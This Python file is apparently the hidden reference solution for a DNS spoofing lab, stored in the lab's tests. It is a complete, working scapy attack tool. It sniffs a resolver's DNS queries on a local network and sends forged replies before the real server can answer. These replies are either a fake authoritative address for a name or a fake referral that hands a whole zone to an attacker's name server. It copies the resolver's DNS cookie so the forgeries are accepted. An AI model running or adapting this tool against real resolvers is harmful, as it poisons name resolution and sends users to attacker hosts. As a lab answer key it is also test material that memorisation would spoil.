#!/usr/bin/env python3
"""The dns-local-attack lab's reference attack (kept in the tests, never in the handout).

From the attacker node on the resolver's sniffable LAN: sniff the resolver's queries to SERVER
and answer them before SERVER does (the router holds the real ones 200 ms on their way out).

  answer:   SERVER is example.com's name server; the query for NAME A gets a forged
            authoritative answer: NAME A ADDRESS.
  referral: SERVER is the .com server; a query about ZONE (or a name under it) gets a forged
            referral: ZONE NS NS_NAME, so the resolver asks NS_NAME (the attacker's name
            server) about every name of the zone.

The resolver sends a DNS COOKIE with its queries and would drop an answer without its client
cookie; the attacker sees the query, so it echoes the client cookie with a server cookie of its
own. Exits 0 once it forged COUNT replies, 1 if the time runs out first.
"""

import argparse
import os
import sys

from scapy.all import DNS, DNSRR, DNSRROPT, IP, UDP, EDNS0TLV, conf, send, sniff

COOKIE = 10  # EDNS option code of DNS COOKIE (RFC 7873)


def echoed_opt(query: DNS):
    """An OPT record for the reply, carrying the query's client cookie back, if it had one."""
    opt = next((rr for rr in (query.ar or []) if isinstance(rr, DNSRROPT)), None)
    if opt is None:
        return None
    options = []
    for option in opt.rdata or []:
        if getattr(option, "optcode", None) == COOKIE:
            client = bytes(option.optdata)[:8]
            server = os.urandom(8)
            options.append(EDNS0TLV(optcode=COOKIE, optlen=16, optdata=client + server))
    return DNSRROPT(rclass=1232, rdata=options)


def in_zone(name: str, zone: str) -> bool:
    return name == zone or name.endswith("." + zone)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--mode", choices=["answer", "referral"], required=True)
    parser.add_argument("--resolver", required=True, help="the resolver's address")
    parser.add_argument("--server", required=True, help="the server whose replies are forged")
    parser.add_argument("--name", default="www.example.com.")
    parser.add_argument("--address", help="answer mode: the address NAME gets")
    parser.add_argument("--zone", default="example.com.")
    parser.add_argument("--ns-name", default="ns.attacker32.com.")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--timeout", type=float, default=30)
    args = parser.parse_args()
    if args.mode == "answer" and not args.address:
        parser.error("answer mode needs --address")
    conf.verb = 0
    forged = 0

    def wanted(packet) -> bool:
        if not packet.haslayer(DNS) or packet[DNS].qr != 0 or packet[DNS].qd is None:
            return False
        question = packet[DNS].qd
        qname = question.qname.decode().lower()
        if args.mode == "answer":
            return qname == args.name and question.qtype == 1
        return in_zone(qname, args.zone)

    def forge(packet) -> None:
        nonlocal forged
        if not wanted(packet):
            return
        query = packet[DNS]
        reply = DNS(id=query.id, qr=1, opcode=0, rd=query.rd, cd=query.cd, qd=query.qd)
        if args.mode == "answer":
            reply.aa = 1
            reply.an = DNSRR(rrname=args.name, type="A", ttl=86400, rdata=args.address)
        else:  # a referral: no answer, not authoritative, the zone's new name server
            reply.ns = DNSRR(rrname=args.zone, type="NS", ttl=86400, rdata=args.ns_name)
        opt = echoed_opt(query)
        if opt is not None:
            reply.ar = opt
        send(IP(src=packet[IP].dst, dst=packet[IP].src) / UDP(sport=53, dport=packet[UDP].sport) / reply)
        forged += 1
        print(f"forged a {args.mode} for {query.qd.qname.decode()} id {query.id}", flush=True)

    sniff(
        filter=f"udp dst port 53 and src host {args.resolver} and dst host {args.server}",
        prn=forge,
        store=False,
        timeout=args.timeout,
        stop_filter=lambda _: forged >= args.count,
        started_callback=lambda: print("sniffing", flush=True),
    )
    return 0 if forged >= args.count else 1


if __name__ == "__main__":
    sys.exit(main())
